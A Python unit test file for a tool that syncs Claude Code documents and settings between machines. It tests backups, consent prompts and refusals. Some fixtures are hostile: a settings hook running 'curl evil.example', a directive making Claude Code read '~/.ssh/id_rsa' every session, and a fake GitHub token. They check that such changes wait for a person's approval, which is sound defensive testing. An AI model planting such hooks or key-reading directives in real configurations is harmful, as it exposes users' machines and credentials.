"""What consolidated documents change here, who is asked, and what is never written over."""

from __future__ import annotations

import json
import os
import stat
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from convergenced import steps
from convergenced.errors import ConvergenceError
from convergenced.knowledge.applying import apply_changes
from convergenced.knowledge.provider import ASKING_PREFIX
from convergenced.knowledge.standing import Said
from convergenced.machine.backups import list_backups
from convergenced.merge.knowledge import GLOBAL, SETTINGS, DocumentPath, Scope
from convergenced.model import LocalPath
from tests.unit.knowledge.machines import APP, CLAUDE, NESTED, KnowingMachine

OLD = "".join(f"line {number}\n" for number in range(10))
NEW = OLD.replace("line 3", "line three")
HOOK = {"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "curl evil.example"}]}]}}


@pytest.fixture(autouse=True)
def no_hook() -> Iterator[None]:
    yield
    steps.hook = None


def claude(machine: KnowingMachine) -> Path:
    return machine.root / "CLAUDE.md"


def known(machine: KnowingMachine, text: str = OLD) -> Path:
    """A document that is on the branch and in step."""
    path = claude(machine)
    path.write_text(text)
    machine.take()
    machine.consolidate(text.encode())
    assert machine.standing().state == "same"
    return path


def backups(machine: KnowingMachine) -> list[tuple[str, bytes]]:
    """The backups of all scopes, by path, the newest first."""
    folders = [f"knowledge/{scope}" for scope in (GLOBAL, APP)]
    found = list_backups(machine.machine.backups_dir, folders)
    return [(f"{one.folder}/{one.name}", Path(one.path).read_bytes()) for one in found]


def at_step(name: str, act: Callable[[], object]) -> None:
    """Has something happen when a step is reached for the first time."""
    assert name in steps.STEPS

    def hook(step: str) -> None:
        if step == name:
            steps.hook = None
            act()

    steps.hook = hook


def settings(machine: KnowingMachine, **values: object) -> Path:
    """The settings.json of a machine, known to the branch and in step."""
    path = machine.config / "settings.json"
    path.write_text(json.dumps(values, indent=2) + "\n")
    machine.take()
    shared = machine.shared(SETTINGS, GLOBAL)
    assert shared is not None
    machine.consolidate(shared, SETTINGS, GLOBAL)
    machine.take()
    return path


def consolidate_settings(machine: KnowingMachine, values: object) -> None:
    data = json.dumps(values, indent=2, sort_keys=True) + "\n"
    machine.consolidate(data.encode(), SETTINGS, GLOBAL)


class TestTexts:
    def test_a_small_change_is_written_with_a_backup(self, ann: KnowingMachine) -> None:
        path = known(ann)
        path.chmod(0o644)
        ann.consolidate(NEW.encode())
        standing = ann.standing()
        assert (standing.state, standing.text, len(standing.changes)) == ("waits", "written soon", 1)
        change = standing.changes[0]
        assert (change.kind, change.consent, change.reason, change.key) == ("text", "no", "", "")
        text, added, removed = change.diff()
        assert "-line 3\n+line three\n" in text
        assert (added, removed) == (1, 1)
        report = ann.apply()
        assert report.written == [str(path)]
        assert report.applied == [change.id]
        assert (report.left, report.held, report.changed, report.refusals) == ([], "", [], [])
        assert path.read_text() == NEW
        assert stat.S_IMODE(path.stat().st_mode) == 0o644
        assert [Path(one).read_text() for one in report.backups] == [OLD]
        assert report.shelves == ["knowledge/projects/app"]
        assert backups(ann) == [("knowledge/projects/app/CLAUDE.md", OLD.encode())]
        assert path.stat().st_mtime == ann.clock.now()

    def test_afterwards_it_is_the_same_and_applied(self, ann: KnowingMachine) -> None:
        known(ann)
        ann.consolidate(NEW.encode())
        ann.apply()
        assert ann.standing().state == "same"
        assert ann.mine.applied[APP][CLAUDE] == ann.knowledge.consolidated[APP][CLAUDE]
        tip = ann.tip
        assert ann.apply().written == []
        assert ann.tip == tip

    def test_paths_are_this_machines_own(self, ann: KnowingMachine, bob: KnowingMachine) -> None:
        claude(ann).write_text(f"{OLD}see {ann.home}/bin and {ann.root}/out\n")
        ann.take()
        ann.consolidate(ann.shared() or b"")
        bob.apply()
        assert claude(bob).read_text() == f"{OLD}see {bob.home}/bin and {bob.root}/out\n"
        assert bob.standing().state == "same"

    def test_a_new_file_may_be_read_as_others_beside_it(self, ann: KnowingMachine) -> None:
        ann.root.chmod(0o775)
        ann.consolidate(b"project\n")
        ann.consolidate(b"nested\n", NESTED)
        ann.consolidate(b"global\n", CLAUDE, GLOBAL)
        report = ann.apply()
        assert len(report.written) == 3
        assert (report.backups, report.shelves) == ([], [])
        modes = [
            stat.S_IMODE(path.stat().st_mode)
            for path in (claude(ann), ann.root / ".claude" / "CLAUDE.md", ann.config / "CLAUDE.md")
        ]
        assert modes == [0o664, 0o664, 0o600]

    def test_an_empty_file_is_filled_without_asking(self, ann: KnowingMachine) -> None:
        path = known(ann, "")
        ann.consolidate(NEW.encode())
        assert ann.apply().written == [str(path)]

    def test_a_large_change_waits_for_a_yes_to_that_very_change(self, ann: KnowingMachine) -> None:
        path = known(ann)
        ann.consolidate(b"all\nis\nnew\n")
        standing = ann.standing()
        assert (standing.state, standing.text) == ("person", "more than half of its lines change")
        change = standing.changes[0]
        assert change.consent == "large"
        assert [one.id for one in ann.apply().left] == [change.id]
        ann.consolidate(b"all\nis\nnewer\n")
        assert ann.apply([change.id]).written == []
        assert path.read_text() == OLD
        (newer,) = ann.plan().changes
        assert newer.id != change.id
        assert ann.apply([newer.id]).applied == [newer.id]
        assert path.read_text() == "all\nis\nnewer\n"

    def test_what_has_further_files_read_waits_for_a_yes(self, ann: KnowingMachine) -> None:
        path = known(ann, f"{OLD}@docs/known.md\n")
        ann.consolidate(f"@docs/known.md\n{OLD}see @~/.ssh/id_rsa, @notes.md\n".encode())
        standing = ann.standing()
        assert standing.state == "person"
        assert standing.text == "has Claude Code read ~/.ssh/id_rsa, notes.md in every session"
        (change,) = standing.changes
        assert change.consent == "reads"
        assert ann.apply().written == []
        assert ann.apply([change.id]).written == [str(path)]
        ann.take()
        ann.consolidate(f"{OLD}@docs/known.md @~/.ssh/id_rsa\n".encode())
        assert ann.apply().written == [str(path)], "it was read before"

    def test_so_does_a_new_file_that_has_files_read(self, ann: KnowingMachine) -> None:
        text = f"{OLD}{' '.join(f'@{number}.md' for number in range(5))}\n@{'x' * 200}\n"
        ann.consolidate(text.encode())
        (change,) = ann.standing().changes
        assert change.consent == "reads"
        assert change.reason == "has Claude Code read 0.md, 1.md, 2.md and 3 more in every session"
        assert ann.apply().written == []

    def test_what_was_declined_is_not_written(self, ann: KnowingMachine) -> None:
        known(ann)
        ann.consolidate(NEW.encode())
        (change,) = ann.plan().changes
        report = ann.apply(declined=[change.id])
        assert report.written == []
        assert [one.id for one in report.left] == [change.id]
        (standing,) = ann.plan(declined=[change.id]).documents
        assert (standing.state, standing.text) == ("declined", "you declined what is left")

    def test_marks_are_told(self, ann: KnowingMachine) -> None:
        known(ann)
        ann.consolidate(f"{OLD}<!-- UNVERIFIED: it rains -->\n".encode())
        standing = ann.standing()
        assert [(mark.kind, mark.line, mark.text) for mark in standing.marks] == [
            ("UNVERIFIED", 11, "it rains")
        ]
        assert standing.changes[0].marks == standing.marks
        ann.apply()
        assert ann.standing().marks == standing.marks

    def test_a_document_that_was_removed_here_waits_for_a_person(self, ann: KnowingMachine) -> None:
        path = known(ann)
        path.unlink()
        standing = ann.standing()
        assert (standing.state, standing.text) == ("removed", "it was removed here")
        change = standing.changes[0]
        assert change.consent == "removed"
        assert ann.apply().written == []
        assert ann.apply([change.id]).written == [str(path)]
        assert path.read_text() == OLD

    def test_one_that_was_removed_before_it_was_applied_is_not_made_again(self, ann: KnowingMachine) -> None:
        path = claude(ann)
        path.write_text(OLD)
        ann.take()
        ann.consolidate(NEW.encode())
        path.unlink()
        assert ann.standing().state == "removed"

    def test_no_newline_at_the_end_is_shown(self, ann: KnowingMachine) -> None:
        known(ann, OLD.rstrip())
        ann.consolidate(OLD.encode())
        (change,) = ann.plan().changes
        text, added, removed = change.diff()
        assert "-line 9\n\\ No newline at end of file\n+line 9\n" in text
        assert (added, removed) == (1, 1)


class TestEdits:
    def test_what_no_synthesis_took_in_yet_is_left_alone(self, ann: KnowingMachine) -> None:
        path = known(ann)
        ann.consolidate(NEW.encode())
        path.write_text(OLD + "mine\n")
        standing = ann.standing()
        assert (standing.state, standing.changes) == ("edited", ())
        assert ann.apply().written == []
        assert path.read_text() == OLD + "mine\n"

    def test_a_first_document_is_left_alone_until_it_is_taken_in(self, ann: KnowingMachine) -> None:
        path = claude(ann)
        path.write_text("mine\n")
        ann.consolidate(NEW.encode())
        assert ann.standing().state == "edited"
        ann.consolidate(b"mine\n" + NEW.encode())
        (change,) = ann.plan().changes
        assert change.consent == "large"
        ann.apply([change.id])
        assert path.read_text() == "mine\n" + NEW

    def test_an_edit_since_the_snapshot_is_seen_by_the_plan(self, ann: KnowingMachine) -> None:
        path = known(ann)
        ann.consolidate(NEW.encode())
        path.write_text("edited\n")
        assert [one.state for one in ann.plan().documents] == ["edited"]

    def test_an_edit_since_the_plan_is_left_alone(self, ann: KnowingMachine) -> None:
        path = known(ann)
        ann.consolidate(NEW.encode())
        plan = ann.plan()
        path.write_text("edited\n")
        report = apply_changes(ann.parts, ann.files, plan, Said())
        assert report.changed == [str(path)]
        assert (report.written, report.backups) == ([], [])
        assert len(report.left) == 1
        assert path.read_text() == "edited\n"
        assert backups(ann) == []

    @pytest.mark.parametrize("step", ["replace.written", "replace.kept"])
    def test_an_edit_while_it_is_written_is_left_alone(self, ann: KnowingMachine, step: str) -> None:
        path = known(ann)
        ann.consolidate(NEW.encode())
        at_step(step, lambda: path.write_text("edited\n"))
        report = ann.apply()
        assert report.changed == [str(path)]
        assert path.read_text() == "edited\n"
        assert sorted(os.listdir(ann.root)) == ["CLAUDE.md"]

    def test_an_edit_within_the_clocks_tick_is_seen_too(self, ann: KnowingMachine) -> None:
        path = known(ann)
        ann.consolidate(NEW.encode())
        moment = path.stat().st_mtime_ns

        def edit() -> None:
            path.write_text(OLD.replace("line 1", "LINE 1"))
            os.utime(path, ns=(moment, moment))

        at_step("replace.kept", edit)
        assert ann.apply().changed == [str(path)]
        assert "LINE 1" in path.read_text()

    def test_a_file_that_appears_meanwhile_is_left_alone(self, ann: KnowingMachine) -> None:
        ann.consolidate(NEW.encode())
        at_step("replace.kept", lambda: claude(ann).write_text("first\n"))
        assert ann.apply().changed == [str(claude(ann))]
        assert claude(ann).read_text() == "first\n"

    def test_a_link_that_appears_meanwhile_is_not_followed(self, ann: KnowingMachine) -> None:
        path = known(ann)
        (ann.home / "other.md").write_text(OLD)
        ann.consolidate(NEW.encode())
        plan = ann.plan()
        path.unlink()
        path.symlink_to(ann.home / "other.md")
        report = apply_changes(ann.parts, ann.files, plan, Said())
        assert report.written == []
        assert [one.where for one in report.refusals] == ["projects/app/CLAUDE.md"]
        assert (ann.home / "other.md").read_text() == OLD

    def test_a_document_with_a_secret_that_is_not_shared_is_left_alone(self, ann: KnowingMachine) -> None:
        ann.screen.policy = "block"
        path = known(ann)
        secret = "ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"
        path.write_text(f"{OLD}{secret}\n")
        ann.consolidate(NEW.encode())
        assert ann.standing().state == "edited"
        assert ann.apply().written == []


class TestClients:
    def test_nothing_is_written_while_a_client_runs_anywhere(self, ann: KnowingMachine) -> None:
        known(ann)
        ann.consolidate(NEW.encode())
        pid = ann.processes.begin("/somewhere/else")
        standing = ann.standing()
        assert standing.state == "held"
        assert standing.text == f"Claude Code runs in /somewhere/else (pid {pid})"
        assert ann.plan().held == standing.text
        report = ann.apply()
        assert (report.held, report.pid) == (standing.text, pid)
        assert (report.written, len(report.left)) == ([], 1)

    def test_one_that_we_ask_ourselves_does_not(self, ann: KnowingMachine) -> None:
        path = known(ann)
        ann.consolidate(NEW.encode())
        ann.processes.begin(f"/tmp/{ASKING_PREFIX}x/work")
        assert ann.plan().held == ""
        assert ann.apply().written == [str(path)]

    def test_one_that_starts_right_before_the_rename_holds_it(self, ann: KnowingMachine) -> None:
        path = known(ann)
        (ann.config / "CLAUDE.md").write_text(OLD)
        ann.take()
        ann.consolidate(NEW.encode())
        ann.consolidate(NEW.encode(), CLAUDE, GLOBAL)
        at_step("replace.kept", lambda: ann.processes.begin(None))
        report = ann.apply()
        assert report.held.startswith("Claude Code runs in a folder that cannot be seen")
        assert report.written == []
        assert len(report.left) == 2
        assert path.read_text() == (ann.config / "CLAUDE.md").read_text() == OLD
        assert backups(ann) == []

    def test_a_person_is_asked_also_while_one_runs(self, ann: KnowingMachine) -> None:
        known(ann)
        ann.consolidate(b"all new\n")
        ann.processes.begin("/x")
        assert ann.standing().state == "person"


class TestSettings:
    def test_a_theme_is_applied_and_a_hook_waits(self, ann: KnowingMachine) -> None:
        path = settings(ann, theme="dark", apiKeyHelper="/mine")
        consolidate_settings(ann, {"theme": "light", **HOOK})
        standing = ann.standing(SETTINGS, GLOBAL)
        assert standing.state == "person"
        consents = {change.key.partition(".")[0]: change.consent for change in standing.changes}
        assert consents == {"hooks": "runs", "theme": "no"}
        report = ann.apply()
        assert report.written == [str(path)]
        assert json.loads(path.read_text()) == {"theme": "light", "apiKeyHelper": "/mine"}
        assert backups(ann)[0][0] == "knowledge/global/settings.json"
        (left,) = report.left
        assert left.consent == "runs"
        assert left.reason
        assert left.before is None
        assert "curl evil.example" in json.dumps(left.after)
        shown, added, removed = left.diff()
        assert "curl evil.example" in shown
        assert "/mine" not in shown
        assert (added, removed) == (len(json.dumps(left.after, indent=2).splitlines()), 0)

    def test_what_is_left_waits_on_and_goes_in_with_a_yes(self, ann: KnowingMachine) -> None:
        path = settings(ann, theme="dark")
        consolidate_settings(ann, {"theme": "light", **HOOK})
        (left,) = ann.apply().left
        (again,) = ann.apply().left  # no synthesis took the theme in meanwhile: it says nothing new
        assert again.id == left.id
        assert ann.apply([left.id]).applied == [left.id]
        assert json.loads(path.read_text()) == {"theme": "light", **HOOK}
        assert ann.standing(SETTINGS, GLOBAL).state == "same"

    def test_an_edit_after_a_part_was_applied_is_an_edit(self, ann: KnowingMachine) -> None:
        path = settings(ann, theme="dark")
        consolidate_settings(ann, {"theme": "light", **HOOK})
        ann.apply()
        path.write_text(json.dumps({"theme": "light-daltonized"}))
        assert ann.standing(SETTINGS, GLOBAL).state == "edited"
        assert ann.apply().written == []

    def test_a_file_that_is_not_there_is_made(self, ann: KnowingMachine) -> None:
        consolidate_settings(ann, {"theme": "light"})
        ann.apply()
        path = ann.config / "settings.json"
        assert json.loads(path.read_text()) == {"theme": "light"}
        assert stat.S_IMODE(path.stat().st_mode) == 0o600
        ann.take()
        path.unlink()
        standing = ann.standing(SETTINGS, GLOBAL)
        assert (standing.state, [one.consent for one in standing.changes]) == ("removed", ["removed"])

    def test_settings_that_make_no_sense_are_left_alone(self, ann: KnowingMachine) -> None:
        path = settings(ann, theme="dark")
        consolidate_settings(ann, {"theme": "light"})
        path.write_text("{")
        standing = ann.standing(SETTINGS, GLOBAL)
        assert standing.state == "waits"
        assert "not JSON" in standing.text
        assert ann.apply().written == []


class TestOthers:
    def test_what_is_not_here_is_told(self, ann: KnowingMachine) -> None:
        ann.consolidate(b"x", scope=Scope("projects/other"))
        ann.tracked_files = False
        ann.consolidate(b"x", NESTED)
        (ann.root / ".claude").symlink_to("/nowhere")
        found = {f"{one.scope}/{one.path}": (one.state, one.local, one.text) for one in ann.plan().documents}
        assert found == {
            "projects/app/.claude/CLAUDE.md": (
                "elsewhere",
                None,
                "its own git carries it here, or it is set aside",
            ),
            "projects/other/CLAUDE.md": ("elsewhere", None, "its project is not on this machine"),
        }

    def test_notes_are_never_written(self, ann: KnowingMachine) -> None:
        note = DocumentPath("memory/build.md")
        ann.consolidate(b"theirs", note)
        ann.memory.mkdir(parents=True)
        (ann.memory / "build.md").write_text("mine")
        ann.take()
        ann.consolidate(b"both", note)
        assert ann.standing(note).state == "same"
        assert ann.apply().written == []
        assert (ann.memory / "build.md").read_text() == "mine"

    def test_what_nobody_merged_yet_waits(self, ann: KnowingMachine) -> None:
        claude(ann).write_text(OLD)
        standing = ann.standing()
        assert (standing.state, standing.text) == ("waits", "not merged yet")
        assert standing.local == str(claude(ann))

    def test_content_that_has_not_arrived_waits(self, ann: KnowingMachine) -> None:
        ann.consolidate(NEW.encode())
        del ann.store.objects[ann.knowledge.consolidated[APP][CLAUDE]]
        (standing,) = ann.plan().documents
        assert (standing.state, standing.text) == ("waits", "its content has not arrived yet")

    def test_one_file_that_cannot_be_written_does_not_stop_the_others(
        self, ann: KnowingMachine, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        known(ann)
        ann.consolidate(NEW.encode())
        ann.consolidate(b"global\n", CLAUDE, GLOBAL)
        replace = ann.files.replace

        def full(path: LocalPath, *words: object, **named: object) -> object:
            if path == str(claude(ann)):
                raise ConvergenceError("the disk is full", "free some space")
            return replace(path, *words, **named)  # type: ignore[arg-type]

        monkeypatch.setattr(ann.files, "replace", full)
        report = ann.apply()
        assert report.written == [str(ann.config / "CLAUDE.md")]
        assert [(one.where, one.remedy) for one in report.refusals] == [
            ("projects/app/CLAUDE.md", "free some space")
        ]
        assert len(report.left) == 1


def test_two_machines_come_to_rest(ann: KnowingMachine, bob: KnowingMachine) -> None:
    """Text that names a folder of one machine in so many words is not passed to and fro for ever."""
    text = f"{OLD}on ann's machine: {ann.home}/x\n"
    (bob.root / "CLAUDE.md").write_text(text)
    bob.take()
    shared = bob.shared()
    assert shared is not None
    bob.consolidate(shared)
    for machine in (bob, ann, bob, ann):
        machine.apply()
        machine.take()
    assert claude(ann).read_text() == claude(bob).read_text() == text
    tip = ann.tip
    for machine in (ann, bob):
        assert machine.take().commit is None
        assert machine.standing().state == "same"
    assert ann.tip == tip
